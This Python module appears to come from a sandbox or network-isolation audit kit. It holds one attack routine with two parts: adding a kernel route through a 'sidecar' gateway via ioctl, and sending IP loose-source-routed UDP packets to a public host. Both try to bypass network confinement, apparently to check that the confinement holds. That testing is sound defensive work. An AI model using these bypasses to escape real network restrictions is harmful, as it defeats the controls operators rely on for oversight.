"""Makes the sidecar a router: a route through it, and source-routed packets."""

import fcntl
import socket
import struct

from pacabench.audit.attacks.kit import Found, Given, found, outcome

_SIOCADDRT = 0x890B
_RTF_UP_GATEWAY_HOST = 0x7


def attack(given: Given) -> Found:
    """See above."""
    seen = {
        "route": outcome(lambda: _route(given["public"], given["sidecar"])),
        "source-routed": outcome(lambda: _source_routed(given["public"], given["sidecar"])),
    }
    return found("done" in seen.values(), outcomes=seen)


def _address(address: str) -> bytes:
    return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))


def _route(target: str, gateway: str) -> None:
    """``struct rtentry``: padding, target, gateway, mask, flags, and nothing more."""
    entry = struct.pack("=Q", 0) + _address(target) + _address(gateway)
    entry += _address("255.255.255.255") + struct.pack("=H", _RTF_UP_GATEWAY_HOST)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, _SIOCADDRT, entry.ljust(120, b"\0"))


def _source_routed(target: str, through: str) -> None:
    """Loose source and record route (RFC 791): two hops."""
    hops = socket.inet_aton(through) + socket.inet_aton(target)
    option = bytes([131, 3 + len(hops), 4]) + hops + b"\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        sock.sendto(b"x", (target, 53))
